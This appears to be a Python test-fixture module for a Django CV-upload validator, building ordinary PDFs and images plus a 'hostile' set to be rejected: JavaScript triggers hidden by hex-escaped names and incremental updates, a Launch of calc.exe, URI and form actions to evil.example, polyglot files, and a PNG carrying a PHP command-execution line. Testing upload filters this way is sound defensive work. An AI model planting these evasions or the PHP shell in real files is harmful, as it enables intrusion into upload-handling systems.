"""Files for tests: ordinary ones and hostile ones, made on the spot."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String


def pdf(change: Callable[[pikepdf.Pdf], Any] | None = None, **save: Any) -> bytes:
    """An ordinary PDF of one page, changed as asked."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def png(width: int = 1, height: int = 1) -> bytes:
    """A PNG whose header claims this size."""

    def chunk(sort: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + sort + body + struct.pack(">I", zlib.crc32(sort + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def jpeg(width: int = 8, height: int = 8) -> bytes:
    """The segments of a JPEG, with coded data that holds a stuffed FF and a restart mark."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    parts = (
        (b"\xff\xe0", b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"),
        (b"\xff\xc0", frame),
        (b"\xff\xda", b"\x01\x01\x00\x00\x3f\x00"),
    )
    segments = b"".join(mark + struct.pack(">H", len(body) + 2) + body for mark, body in parts)
    return b"\xff\xd8" + segments + b"\x12\xff\x00\x34\xff\xd0\x56" + b"\xff\xd9"


def uploaded(content: bytes, name: str = "cv.pdf", kind: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=kind)


def _open_with(action: Any) -> bytes:
    return pdf(lambda made: made.Root.__setitem__("/OpenAction", made.make_indirect(action)))


def _with_embedded(made: pikepdf.Pdf) -> None:
    made.attachments["tool.exe"] = pikepdf.AttachedFileSpec(made, b"MZ...", filename="tool.exe")


def _annotation(made: pikepdf.Pdf, **fields: Any) -> None:
    made.pages[0].obj["/Annots"] = Array(
        [made.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **fields))]
    )


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "x" * 100)
    return out.getvalue()


def _later_script() -> bytes:
    """An ordinary file to which an update was appended that adds a script."""
    first = pdf()
    body = b"9 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\n"
    at = len(first)
    xref = f"xref\n9 1\n{at:010d} 00000 n \ntrailer\n<</Size 10/Root 9 0 R/Prev {_startxref(first)}>>\nstartxref\n{at + len(body)}\n%%EOF\n"
    return first + body + xref.encode()


def _startxref(content: bytes) -> int:
    return int(content.rsplit(b"startxref", 1)[1].split()[0])


def _escaped() -> bytes:
    """A script under a name written in hexadecimal."""
    return _open_with(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))).replace(
        b"/JavaScript", b"/J#61vaScript"
    )


def _plain_text_pdf(*extra: bytes) -> bytes:
    """A PDF made by hand, with further entries of its catalogue."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + b"".join(extra) + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ]
    out, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        out
        + b"xref\n0 4\n0000000000 65535 f \n"
        + table
        + b"trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(out)
    )


def ordinary() -> dict[str, bytes]:
    """Files that people really send."""

    def titled(made: pikepdf.Pdf) -> None:
        made.docinfo["/Title"] = String("個人履歷 – Ho Lok-yiu")

    def linked(made: pikepdf.Pdf) -> None:
        _annotation(
            made, Subtype=Name.Link, A=Dictionary(Type=Name.Action, S=Name.URI, URI=String("https://orcid.org/0000"))
        )

    def opens_at_page(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])

    def goes_to_page(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([made.pages[0].obj, Name.Fit]))

    return {
        "plain": pdf(),
        "by hand": _plain_text_pdf(),
        "with a Chinese title": pdf(titled),
        "with a link": pdf(linked),
        "LaTeX opens at a page": pdf(opens_at_page),
        "goes to a page on opening": pdf(goes_to_page),
        "in object streams": pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "linearised": pdf(linearize=True),
        "with a line after its end": pdf() + b"\r\n\r\n",
        "a PNG": png(),
        "a JPEG": jpeg(),
        "a JPEG with a camera's trailer": jpeg() + b"SEFH trailer of a phone",
    }


def hostile() -> dict[str, bytes]:
    """Files that are not kept."""

    def script() -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))

    return {
        "script on opening": _open_with(script()),
        "script under a written-out name": _escaped(),
        "script added by an update": _later_script(),
        "script in object streams": pdf(
            lambda made: made.Root.__setitem__("/OpenAction", made.make_indirect(script())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "script in the names": pdf(lambda made: made.Root.__setitem__("/Names", Dictionary(JavaScript=Dictionary(Names=Array([]))))),
        "script when a page opens": pdf(lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=script()))),
        "script behind a link": pdf(lambda made: _annotation(made, Subtype=Name.Link, A=script())),
        "launches a program": _open_with(Dictionary(S=Name.Launch, F=String("calc.exe"))),
        "calls home on opening": _open_with(Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
        "sends a form": pdf(lambda made: _annotation(made, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "carries a program": pdf(_with_embedded),
        "an XFA form": pdf(lambda made: made.Root.__setitem__("/AcroForm", Dictionary(XFA=String("<xdp/>"), Fields=Array([])))),
        "rich media": pdf(lambda made: _annotation(made, Subtype=Name.RichMedia)),
        "encrypted": pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")),
        "encrypted without a password": pdf(encryption=pikepdf.Encryption(user="", owner="secret")),
        "PDF and HTML": b"%PDF-1.7\n<html><script>alert(1)</script></html>\n" + pdf()[9:],
        "PDF and ZIP": pdf() + _zip(),
        "PDF and ZIP before its end": pdf()[:-6] + _zip() + b"\n%%EOF\n",
        "junk before": b"\0" * 900 + pdf(),
        "junk behind": pdf() + b"<script>alert(1)</script>",
        "cut off": pdf()[:-200],
        "only a header": b"%PDF-1.7\n%%EOF\n",
        "no pages": _plain_text_pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
        "HTML": b"<!doctype html><script>alert(1)</script>",
        "SVG": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "ZIP": _zip(),
        "a program": b"MZ" + b"\0" * 200,
        "text": b"I am a CV, honestly.",
        "GIF": b"GIF89a/*" + b"\0" * 30 + b"*/=alert(1)",
        "PNG with PHP behind": png() + b"<?php system($_GET[0]); ?>",
        "PNG of 60000 by 60000": png(60_000, 60_000),
        "PNG cut off": png()[:-6],
        "PNG by its first bytes alone": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
        "JPEG by its first bytes alone": b"\xff\xd8\xff\xe0<script>alert(1)</script>",
        "JPEG of 60000 by 60000": jpeg(60_000, 60_000),
    }  # fmt: skip
